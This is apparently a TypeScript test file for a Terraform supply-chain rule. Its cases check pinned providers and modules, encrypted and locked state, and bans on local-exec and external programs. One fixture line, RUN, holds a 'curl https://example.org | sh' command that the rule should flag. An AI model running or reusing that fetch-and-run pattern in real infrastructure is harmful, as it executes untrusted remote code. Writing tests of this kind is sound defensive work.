import { pinnedToolchain } from "../../../../lib/checks/rules/sup/pinned-toolchain";
import { NO_MACHINE } from "../../support/cases";
import type { EditCase, RuleCases } from "../../support/rule-cases";

// biome-ignore lint/suspicious/noExplicitAny: what is edited is JSON of any shape
type Editable = any;

function terraform(when: string, change: (block: Editable) => void, says?: RegExp): EditCase {
  return {
    when,
    on: "",
    ...(says === undefined ? {} : { says }),
    edit: (draft) => change(draft.configuration.terraform),
  };
}

const RUN = { "local-exec": { command: "curl https://example.org | sh" } };

function stack(when: string, change: (configuration: Editable) => void, says?: RegExp): EditCase {
  return {
    when,
    on: "",
    ...(says === undefined ? {} : { says }),
    edit: ({ configuration }) => change(configuration),
  };
}

export const cases: RuleCases = {
  rule: pinnedToolchain,
  passes: [
    { on: "" },
    terraform("a version with an upper end", (block) => {
      block.required_providers.aws.version = "~> 6.25";
    }),
    terraform("a table locks", (block) => {
      delete block.backend.s3.use_lockfile;
      block.backend.s3.dynamodb_table = "terraform-locks";
    }),
    terraform("a service keeps the state", (block) => {
      block.backend = { remote: { organization: "corp" } };
    }),
    terraform("the state goes by an endpoint with TLS", (block) => {
      block.backend.s3.endpoints = { s3: "https://s3-fips.us-gov-west-1.amazonaws.com" };
    }),
  ],
  fails: [
    stack(
      "a resource runs a program",
      (configuration) => {
        configuration.resource.terraform_data.more = { provisioner: [RUN] };
      },
      /terraform_data.more runs a program by local-exec/,
    ),
    stack(
      "a program is asked",
      (configuration) => {
        configuration.data = { ...configuration.data, external: { more: { program: ["sh"] } } };
      },
      /data.external.more/,
    ),
    stack("a program runs when something is taken out", (configuration) => {
      configuration.removed = [{ from: "aws_s3_bucket.more", provisioner: [RUN] }];
    }),
    stack("an action is a program", (configuration) => {
      configuration.action = { local_command: { more: {} } };
    }),
    stack(
      "a module has no version",
      (configuration) => {
        configuration.module = { more: { source: "terraform-aws-modules/vpc/aws" } };
      },
      /module.more comes from/,
    ),
    stack("a module is of whatever is in a repository", (configuration) => {
      configuration.module = { more: { source: "github.com/corp/more" } };
    }),
    terraform("the state goes to somewhere without TLS", (block) => {
      block.backend.s3.endpoint = "http://s3.corp.example";
    }),
    terraform("no version is said", (block) => delete block.required_providers.aws.version, /version/),
    terraform("any newer version will do", (block) => {
      block.required_providers.aws.version = ">= 5.0";
    }),
    terraform("a provider is somebody else's", (block) => {
      block.required_providers.aws.source = "example/aws";
    }),
    terraform("no provider is pinned", (block) => delete block.required_providers, /required_providers/),
    terraform("the state lies on a disk", (block) => {
      block.backend = { local: { path: "terraform.tfstate" } };
    }),
    terraform("no backend is said", (block) => delete block.backend, /backend local/),
    terraform("the state is not encrypted", (block) => delete block.backend.s3.encrypt),
    terraform("the state is not encrypted, in words", (block) => {
      block.backend.s3.encrypt = "false";
    }),
    terraform("the state has no key", (block) => delete block.backend.s3.kms_key_id),
    terraform("nothing locks", (block) => delete block.backend.s3.use_lockfile),
    terraform("the lock is off", (block) => {
      block.backend.s3.use_lockfile = false;
    }),
    terraform("everybody reads the state", (block) => {
      block.backend.s3.acl = "public-read";
    }),
  ],
  unknown: [
    {
      when: "a variable says whether there is a flow log",
      on: "",
      says: /count of aws_flow_log/,
      edit: (draft) => {
        draft.resources("aws_flow_log")[0].count = "${var.number}";
      },
    },
    stack(
      "a module of one version makes what nobody sees",
      (configuration) => {
        configuration.module = { more: { source: "terraform-aws-modules/vpc/aws", version: "5.21.0" } };
      },
      /judge the plan/,
    ),
    stack("a module of one commit does", (configuration) => {
      configuration.module = { more: { source: "git::https://git.corp.example/more.git?ref=v1.2.0" } };
    }),
    stack("a module of one's own does", (configuration) => {
      configuration.module = { more: { source: "./modules/more" } };
    }),
    terraform("a variable decides", (block) => {
      block.backend.s3.encrypt = "${var.encrypt}";
    }),
  ],
  notApplicable: [NO_MACHINE],
  weakened: [
    {
      when: "backend",
      on: "",
      override: ({ stack }) => stack.addOverride("terraform.backend.s3.encrypt", false),
    },
  ],
  repaired: [
    {
      when: "backend",
      on: "",
      override: ({ stack }) => {
        stack.addOverride("terraform.backend.s3.encrypt", false);
        stack.addOverride("terraform.backend.s3.encrypt", true);
      },
    },
  ],
};
